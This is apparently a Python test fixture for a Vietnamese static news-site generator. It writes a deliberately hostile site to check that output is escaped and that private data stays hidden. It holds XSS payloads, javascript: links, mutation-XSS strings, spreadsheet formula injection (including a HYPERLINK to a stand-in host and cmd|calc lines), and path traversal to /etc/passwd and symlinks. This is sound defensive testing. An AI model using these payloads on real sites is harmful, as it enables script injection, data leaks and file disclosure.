"""A site whose every word is hostile, and whose photos and drafts hold secrets."""

from datetime import date
from io import BytesIO
from pathlib import Path
from xml.sax.saxutils import escape

from PIL import Image
from PIL.ExifTags import GPS, IFD, Base
from PIL.PngImagePlugin import PngInfo

from bantin.legacy import Wish, bring_in, source_of
from bantin.word.imported import read_here
from tests.nasty import with_iptc
from tests.small_site import SmallSite
from tests.word_files import docx, p, picture, r

FOREIGN = "foreign.invalid"
HIDDEN = "vankhotrom"
"""Stands in every word, name and photo of drafts and scheduled articles."""

TELLTALE = "bimatmay7c1e"
"""Stands in everything a photo carries besides its picture."""

BESIDE = "tuyetmat5d0a"
"""Stands in files beside the content."""

RUN = "window.__pwned=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"\"><img src=x onerror='{RUN}'>",
    f"' onmouseover='{RUN}' x='",
    f"<svg/onload={RUN}>",
    f"</script><script>{RUN}</script>",
    f"</title></textarea><img src=x onerror={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "{{ 7*191 }}{% raw %}${7*191}",
    f"]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script><![CDATA[",
    "\u202ectx.exe \u2066",
    "\x1b[31m\x07\x0bđỏ\u2028\u2029\ufeff\U000e0041",
)

FORMULAS = (
    f'=HYPERLINK("http://{FOREIGN}/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
"""What a table would compute, in every place that such a table shows."""

WORDS = """
{payload} is where the text begins, and a footnote[^1] stands here.

| Họ và tên | Đơn vị | Hình thức |
| --- | --- | --- |
| Nguyễn {payload} Văn A | {payload} | Bằng khen {payload} |

![{payload} (Ảnh: {payload})](anh.jpg "{quoted}")

[^1]: {payload}
"""
"""A text in good order, but for what it says."""

ATTACKS = (
    f'<script>{RUN}</script>\n\n<img src=x onerror="{RUN}"> <svg onload="{RUN}"></svg>',
    f'<img src="https://{FOREIGN}/track.png"> <video poster="//{FOREIGN}/v.jpg"></video>',
    f'<iframe src="https://{FOREIGN}/"></iframe> <object data="https://{FOREIGN}/"></object>',
    f'<style>@import "https://{FOREIGN}/x.css"; p {{ background: url(//{FOREIGN}/y) }}</style>',
    f'<link rel="stylesheet" href="//{FOREIGN}/z.css"> <base href="https://{FOREIGN}/">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f'<form action="//{FOREIGN}/"><input autofocus onfocus="{RUN}"><button>x</button></form>',
    f'<details open ontoggle="{RUN}"><summary>x</summary></details>',
    f'<p style="background:url(//{FOREIGN}/a)" id="main" data-switch onclick="{RUN}">x</p>',
    f"<math><mtext><table><mglyph><style><!--</style>"
    f'<img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
    f"[a link](javascript:{RUN}) [another](JaVaScRiPt&colon;{RUN}) <javascript:{RUN}>",
    f"[data](data:text/html,<script>{RUN}</script>) [tab](java\tscript:{RUN})",
    f'[broken out](x"onmouseover="{RUN}) [title](# "x" onmouseover={RUN} "")',
    f"[reference][r]\n\n[r]: javascript:{RUN}",
    f"![far](https://{FOREIGN}/photo.png)",
    f'![broken out](anh.jpg"onload="{RUN})',
    f"<a href='#' ping='https://{FOREIGN}/ping' target=_blank>x</a>",
    "[up](../../../old.txt) [out](../../../../../../etc/passwd) [a](file:///etc/passwd)",
    "![up](../../../old.jpg) ![s]({static}../old.jpg) [s]({attach}../../../pelicanconf.py)",
    "[enc](..%2f..%2f..%2fold.txt) [ent](..&#47;..&#47;old.txt) [back](..\\..\\..\\old.txt)",
    f"Chữ[^1]\n\n[^1]: <img src=x onerror={RUN}> [x](javascript:{RUN})",
)
"""Texts that try the ways of Markdown and HTML; to refuse them is right too."""

REFUSED = (
    f"Bài liên quan: <script>{RUN}</script>",
    "Bài liên quan: ../../../etc/passwd",
    "Đưa tin: ../../../etc/passwd",
    f'Địa chỉ cũ: "><script>{RUN}<',
    f"Địa chỉ cũ: javascript:{RUN}/x.html",
    "Địa chỉ cũ: ../../../evil.html",
    "Địa chỉ cũ: a/../../evil.html",
)
"""Fields that lead elsewhere."""


def make(site: Path, theme: Path) -> None:
    """Write the site into the empty folder ``site``; it is shown by ``theme``."""
    name = PAYLOADS[0] + PAYLOADS[1]
    settings = [
        f"SITENAME = { ({'vi': 'Bản tin thử ' + name, 'en': 'News ' + name})!r}",
        f"TAGLINE = { ({'vi': name, 'en': name})!r}",
        f"PUBLISHER = { ({'vi': name, 'en': name})!r}",
        f"THEME = {str(theme)!r}",
        'PELICAN_CLASS = "bantin.Bantin"',
        'PATH = "content"',
        'OUTPUT_PATH = "output"',
    ]
    _write(site / "pelicanconf.py", "\n".join(settings) + "\n")
    content = site / "content"
    _write(content / "names.csv", _names())
    _write(content / "campaigns/thi-dua/vi.md", _campaign("vi"))
    _write(content / "campaigns/thi-dua/en.md", _campaign("en"))
    _write(content / "pages/gioi-thieu/vi.md", _head(0, "vi", facts=False) + _words(1))
    for number in range(len(PAYLOADS)):
        folder = content / f"articles/bai-{number}"
        _write(folder / "vi.md", _head(number, "vi") + _words(number))
        if number % 2:
            _write(folder / "en.md", _head(number, "en", facts=False) + _words(number))
        # The name may lie: what a photo is, its first bytes say.
        (folder / "anh.jpg").write_bytes(telling_jpeg(number) if number else telling_png())
    for number, attack in enumerate(ATTACKS):
        folder = content / f"articles/tan-cong-{number}"
        head = f"---\nTiêu đề: Tấn công {number}\nNgày: 05/3/2024\nTác giả: A\n---\n\n"
        _write(folder / "vi.md", f"{head}Chữ thật.\n\n{attack}\n\nChữ thật.\n")
        (folder / "anh.jpg").write_bytes(telling_jpeg(50 + number))
    for number, formula in enumerate(FORMULAS):
        _write(content / f"articles/cong-thuc-{number}/vi.md", _computing(formula))
    _add_names(content)
    _add_ways_out(site, content)
    _add_imported(site, content)
    _add_hidden(content)


def _computing(formula: str) -> str:
    fields = ("Tiêu đề", "Tóm tắt", "Tác giả", "Đơn vị", "Nhân vật", "Địa điểm", "Chủ đề")
    head = [*(f"{field}: {formula}" for field in fields), "Ngày: 07/3/2024", "Trao thưởng: thi-dua"]
    cell = formula.replace("|", "\\|")
    table = f"| Họ và tên | Đơn vị | Hình thức |\n|---|---|---|\n| {cell} | {cell} | {cell} |\n"
    return "\n".join(["---", *head, "---", "", "Chữ.", "", table])


def _add_names(content: Path) -> None:
    """Add files and folders whose names are hostile, and fields that lead out of their folder."""
    folder = content / f'articles/x"><img src=x onerror={RUN}>'
    photos = (f"<svg onload={RUN}>.jpg", f'"onerror="{RUN}" x=".jpg', "'><script>.jpg")
    lines = [f"![Ảnh {number}](<{name.replace('<', '%3C').replace('>', '%3E')}>)\n"
             for number, name in enumerate(photos)]  # fmt: skip
    head = ["---", "Tiêu đề: Tên tệp", "Ngày: 06/3/2024", "Tác giả: A", "---", ""]
    _write(folder / "vi.md", "\n".join([*head, *lines]))
    for shade, name in enumerate(photos):
        (folder / name).write_bytes(telling_jpeg(60 + shade))
    _write(content / f"campaigns/y'><script>{RUN}<%2fscript>/vi.md", _campaign("vi"))
    for number, field in enumerate(REFUSED):
        head = ["---", f"Tiêu đề: Trường {number}", "Ngày: 06/3/2024", "Tác giả: A", field]
        _write(content / f"articles/truong-{number}/vi.md", "\n".join([*head, "---", "", "Chữ.\n"]))


def _add_ways_out(site: Path, content: Path) -> None:
    """Add links of the disk, from a photo, a text and a folder, to secrets beside the content."""
    _write(site / "old.txt", f"---\nTiêu đề: {BESIDE}\nNgày: 06/3/2024\nTác giả: A\n---\n\nX.\n")
    (site / "old.jpg").write_bytes(telling_jpeg(90).replace(TELLTALE.encode(), BESIDE.encode()))
    folder = content / "articles/duong-dan"
    head = "---\nTiêu đề: Đường dẫn\nNgày: 06/3/2024\nTác giả: A\n---\n\n"
    _write(folder / "vi.md", f"{head}Chữ.\n\n![Một ảnh](anh.jpg)\n")
    (folder / "anh.jpg").symlink_to(site / "old.jpg")
    (content / "articles/duong-dan-2").mkdir()
    (content / "articles/duong-dan-2/vi.md").symlink_to(site / "old.txt")
    (content / "articles/duong-dan-3").symlink_to("/etc", target_is_directory=True)


def _add_imported(site: Path, content: Path) -> None:
    """Add what a hostile Word file and a page of an old site become."""
    said = [escape(text) for text in (f"Ngày 04/3/2024 {PAYLOADS[1]}", *PAYLOADS[:9])]
    link = f'<w:hyperlink r:id="rId9">{r(said[1])}</w:hyperlink>'
    made = read_here(
        docx(
            p(said[2], style="Title"), *(p(text) for text in said), p(link),
            p(picture("rId1", said[1].replace('"', "&quot;"))), p(said[3], style="ChuThich"),
            media={"image1.jpeg": telling_jpeg(40)},
            relations=f'<Relationship Id="rId9" Type="x/hyperlink" Target="javascript:{RUN}"/>',
        ),
        "bai.docx", today=date(2024, 4, 1), campaigns=(), answers=None,
    )  # fmt: skip
    _write(content / "articles/tu-word/vi.md", made.text.replace("Trạng thái: nháp", "Tác giả: A"))
    for name, data in made.photos:
        (content / "articles/tu-word" / name).write_bytes(data)
    attacks = "\n".join(f"<p>{attack}</p>" for attack in ATTACKS)
    _write(
        site / "old/bai.html",
        f'<title>{PAYLOADS[6]}</title><h1 itemprop="headline">{PAYLOADS[6]}</h1>'
        '<time datetime="2024-03-05">x</time>'
        f'<div itemprop="articleBody"><p>Chữ thật.</p>{attacks}</div>',
    )
    settings = SmallSite(site).settings()
    wish = Wish(ledger=site / "import.csv", author="A")
    bring_in(settings, source_of("html", [site / "old"], None, settings), wish)


def _write(file: Path, text: str) -> None:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, "utf-8")


def _words(number: int) -> str:
    payload = PAYLOADS[number]
    return WORDS.format(payload=payload, quoted=payload.replace('"', "'"))


def _head(number: int, lang: str, *, facts: bool = True) -> str:
    payload = PAYLOADS[number]
    lines = [f"Tiêu đề: Bài {number} {payload}", f"Tóm tắt: tóm tắt {payload}"]
    if facts:
        lines += [
            f"Ngày: {number + 1:02d}/3/2024",
            "Đưa tin: thi-dua",
            f"Tác giả: Tác giả {payload}",
            f"Đơn vị: Đơn vị {payload}",
            f"Nhân vật: Thượng úy Nguyễn {payload}",
            f"Địa điểm: Nơi {payload}",
            f"Chủ đề: Chủ đề {payload}",
            f"Đính chính: 05/4/2024 - sửa {payload}",
        ]
    if lang == "en":
        lines = [line.replace("Tiêu đề", "Title").replace("Tóm tắt", "Summary") for line in lines]
    return "\n".join(["---", *lines, "---", ""])


def _campaign(lang: str) -> str:
    payload = PAYLOADS[0] + PAYLOADS[1]
    head = [f"Tên: Thi đua {payload}"]
    if lang == "vi":
        head += ["Thời gian: 01/3/2024 - 07/5/2024", f"Nhân dịp: Kỷ niệm {payload}"]
        head += [f"Đơn vị phát động: Đơn vị {payload}"]
    return "\n".join(["---", *head, "---", "", f"Mục đích {payload}", ""])


def _names() -> str:
    rows = ["kind,vi,en,note"]
    for payload in PAYLOADS:
        quoted = payload.replace('"', '""')
        rows.append(f'unit,"Đơn vị {quoted}","Unit {quoted}","{quoted}"')
        rows.append(f'topic,"Chủ đề {quoted}","Topic {quoted}",')
    return "\n".join(rows) + "\n"


def _add_hidden(content: Path) -> None:
    """Add a draft, an article of the far future, and a draft campaign, each with a photo."""
    for kind, line in (("nhap", "Trạng thái: nháp"), ("hen-gio", "Đăng từ: 07/5/2199 08:00")):
        folder = content / f"articles/{kind}-{HIDDEN}"
        head = ["---", f"Tiêu đề: {HIDDEN}", "Ngày: 04/3/2024", f"Tác giả: {HIDDEN}", line]
        head += [f"Đơn vị: {HIDDEN} {kind}", f"Chủ đề: {HIDDEN}", "Đưa tin: thi-dua", "---", ""]
        text = f"Chữ {HIDDEN}.\n\n![{HIDDEN}]({HIDDEN}.jpg)\n"
        _write(folder / "vi.md", "\n".join(head) + text)
        (folder / f"{HIDDEN}.jpg").write_bytes(telling_jpeg(77))
    campaign = ["---", f"Tên: {HIDDEN}", "Thời gian: 01/3/2024 - 07/5/2024", "Trạng thái: nháp"]
    _write(content / f"campaigns/{HIDDEN}/vi.md", "\n".join([*campaign, "---", "", HIDDEN, ""]))


def telling_jpeg(shade: int) -> bytes:
    """Return a photo that tells where, by whom and with which camera it was taken."""
    exif = Image.Exif()
    exif[Base.Artist], exif[Base.ImageDescription] = TELLTALE, TELLTALE
    exif.get_ifd(IFD.Exif)[Base.BodySerialNumber] = TELLTALE
    exif.get_ifd(IFD.Exif)[Base.UserComment] = TELLTALE.encode()
    place = exif.get_ifd(IFD.GPSInfo)
    place[GPS.GPSLatitudeRef], place[GPS.GPSLatitude] = "N", (21.0, 23.0, 11.0)
    place[GPS.GPSAreaInformation] = TELLTALE.encode()
    file = BytesIO()
    picture = Image.new("RGB", (640, 400), (shade * 20 % 256, 120, 90))
    picture.save(file, "JPEG", exif=exif, comment=TELLTALE, xmp=TELLTALE.encode())
    noted = with_iptc(file.getvalue(), (2, 120, TELLTALE.encode()), (2, 80, TELLTALE.encode()))
    return noted + TELLTALE.encode()


def telling_png() -> bytes:
    """Return a picture with words in its text chunks and behind its end."""
    words = PngInfo()
    words.add_text("Comment", TELLTALE)
    words.add_itxt("Author", TELLTALE, zip=True)
    file = BytesIO()
    Image.new("RGB", (640, 400), "#345678").save(file, "PNG", pnginfo=words)
    return file.getvalue() + TELLTALE.encode()
